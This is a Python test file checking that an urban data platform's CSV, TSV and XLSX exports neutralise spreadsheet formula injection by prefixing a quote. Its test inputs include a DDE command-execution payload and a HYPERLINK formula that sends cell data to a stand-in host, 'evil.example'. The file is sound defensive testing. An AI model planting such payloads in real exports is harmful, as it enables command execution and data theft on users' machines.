"""CSV and XLSX downloads never hand a spreadsheet a formula: text starting with =, +, -, @, tab or CR gets a leading
quote (OWASP's advice on CSV injection); numbers, negative ones included, stay numbers. The files are read back as a
spreadsheet would read them: the csv module, and openpyxl for the workbook."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from shapely.geometry import Point

from tests.sensing.sta_helpers import Sta, thing

FORMULAS = ["=1+1", "+SUM(A1:A2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "\r=1+1",
            '=HYPERLINK("http://evil.example/?"&A1,"Click")']
PLAIN = ["plain text", "-42", "+1.5e3", "a=b", " =1", "", "'quoted already"]


def test_the_rule() -> None:
    from urbanos.core.escaping import spreadsheet_text, spreadsheet_value

    for text in FORMULAS:
        assert spreadsheet_text(text) == "'" + text
    for text in PLAIN:
        assert spreadsheet_text(text) == text
    for text in ("-", "+", "=", "@", "-1-1", "--5", "-1,5", "-.5e", "-inf", "-NaN"):
        assert spreadsheet_text(text) == "'" + text, text
    for value in (-5, -2.5, 0, None, True):
        assert spreadsheet_value(value) is value


@pytest.fixture
def collection(platform: Any) -> list[dict[str, Any]]:
    from urbanos.features import store

    rows = [{"label": text, "n": -(i + 1), "x": -1.5 * (i + 1), "j": {"cell": text}}
            for i, text in enumerate(FORMULAS + PLAIN)]
    fields = [{"name": "label", "type": "string"}, {"name": "n", "type": "integer"}, {"name": "x", "type": "number"},
              {"name": "j", "type": "json"}, {"name": "=HYPERLINK(1)", "type": "string"}]
    platform.db.write_sync(lambda c: store.replace_collection(
        c, "formulas", fields, [(r, Point(10, 53)) for r in rows], geometry_type="Point"))
    return rows


def _check_rows(header: list[str], body: list[list[str]], rows: list[dict[str, Any]]) -> None:
    assert "'=HYPERLINK(1)" in header and "=HYPERLINK(1)" not in header
    col = {name: header.index(name) for name in ("label", "n", "x")}
    assert len(body) == len(rows)
    by_label = {line[col["label"]]: line for line in body}
    for r in rows:
        text = r["label"]
        want = "'" + text if text in FORMULAS else text
        line = by_label[want]
        assert int(line[col["n"]]) == r["n"] < 0 and float(line[col["x"]]) == r["x"] < 0  # negative numbers untouched
    for line in body:
        for cell in line:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or _number(cell), line


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("url", ["/download/formulas.csv", "/ogcapi/collections/formulas/download?format=csv",
                                 "/ogcapi/collections/formulas/items?f=csv&limit=100"])
def test_csv_downloads_hold_no_formula(collection: list[dict[str, Any]], client: Any, url: str) -> None:
    r = client.get(url)
    assert r.status_code == 200, r.text
    lines = list(csv.reader(io.StringIO(r.text, newline="")))
    _check_rows(lines[0], lines[1:], collection)


def test_xlsx_download_holds_no_formula(collection: list[dict[str, Any]], client: Any) -> None:
    import openpyxl

    r = client.get("/download/formulas.xlsx")
    assert r.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(r.content)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells), [c.value for c in cells if c.data_type == "f"]
    header = [c.value for c in next(ws.iter_rows(max_row=1))]
    assert "'=HYPERLINK(1)" in header
    label, n, x = header.index("label"), header.index("n"), header.index("x")
    got = {row[label].value: row for row in ws.iter_rows(min_row=2)}
    for want in collection:
        text = want["label"]
        row = got["'" + text if text in FORMULAS else (text or None)]
        assert row[label].data_type == "s" or text == ""
        assert row[n].value == want["n"] and row[n].data_type == "n"  # numbers stay numbers, negative ones too
        assert row[x].value == want["x"] and row[x].data_type == "n"


def test_sensorthings_csv_holds_no_formula(client: Any, admin_headers: dict[str, str]) -> None:
    sta = Sta(client, admin_headers)
    tid = sta.create("/Things", thing("=1+1", description="@SUM(1,2)"))["@iot.id"]
    ds = int(sta.ok(f"/Things({tid})/Datastreams")["value"][0]["@iot.id"])
    sta.observe(ds, "=2+2", "2024-01-01T00:00:00Z")
    sta.observe(ds, -3, "2024-01-01T01:00:00Z")
    r = sta.get("/Things?$resultFormat=CSV&$select=id,name,description")
    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
    assert rows[0]["name"] == "'=1+1" and rows[0]["description"] == "'@SUM(1,2)"
    r = sta.get(f"/Datastreams({ds})/Observations?$resultFormat=CSV&$select=result&$orderby=phenomenonTime")
    assert [row["result"] for row in csv.DictReader(io.StringIO(r.text, newline=""))] == ["'=2+2", "-3"]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_datastore_search_csv_records_hold_no_formula(client: Any, admin_headers: dict[str, str], fmt: str) -> None:
    """datastore_search with records_format=csv/tsv: the records text is a CSV a user saves and opens."""
    def act(action: str, body: dict[str, Any]) -> Any:
        r = client.post(f"/api/3/action/{action}", json=body, headers=admin_headers)
        assert r.status_code == 200, r.text
        return r.json()["result"]

    act("organization_create", {"name": f"formula-org-{fmt}"})
    act("package_create", {"name": f"formula-data-{fmt}", "owner_org": f"formula-org-{fmt}"})
    rid = act("resource_create", {"package_id": f"formula-data-{fmt}", "name": "t", "format": "CSV",
                                  "url": "https://example.org/t.csv"})["id"]
    act("datastore_create", {"resource_id": rid, "fields": [{"id": "label", "type": "text"}, {"id": "n", "type": "int"}],
                             "records": [{"label": text, "n": -(i + 1)} for i, text in enumerate(FORMULAS + PLAIN)]})
    got = act("datastore_search", {"resource_id": rid, "records_format": fmt, "sort": "_id", "limit": 100})
    lines = list(csv.reader(io.StringIO(got["records"], newline=""), delimiter="," if fmt == "csv" else "\t"))
    names = [f["id"] for f in got["fields"]]
    labels = [line[names.index("label")] for line in lines]
    assert labels == ["'" + t if t in FORMULAS else t for t in FORMULAS + PLAIN]
    assert [int(line[names.index("n")]) for line in lines] == [-(i + 1) for i in range(len(labels))]
